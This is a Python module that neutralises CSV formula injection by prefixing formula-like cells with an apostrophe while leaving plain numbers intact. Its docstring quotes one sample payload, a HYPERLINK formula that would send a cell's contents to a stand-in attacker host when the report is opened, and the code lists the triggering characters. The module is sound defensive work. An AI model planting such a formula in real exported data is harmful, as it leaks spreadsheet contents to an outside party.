"""CSV cells a spreadsheet will not run: the one guard every CSV writer of the service uses.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula (and some strip a leading tab or CR first), so a
service name like ``=HYPERLINK("https://evil.example?"&A1)`` would run when a
finance officer opens the report. ``cell`` prefixes such text with an
apostrophe (the OWASP advice: the spreadsheet shows it as text and the
apostrophe is not part of the value).

Numbers are left alone: a Python number, or text that is only a decimal
number (``-12.50``, ``-12,50`` in the Excel dialect, ``+3``), cannot be a
formula, and a negative amount must stay a number in the sheet.
"""

from __future__ import annotations

import re
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain decimal number, with a point or (Norwegian Excel) a comma, optionally signed.
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def cell(value: Any) -> Any:
    """``value`` as safe to put in a CSV cell (numbers unchanged, formula-like text neutralised)."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def row(values: Any) -> list[Any]:
    """Every cell of a row through ``cell``."""
    return [cell(v) for v in values]
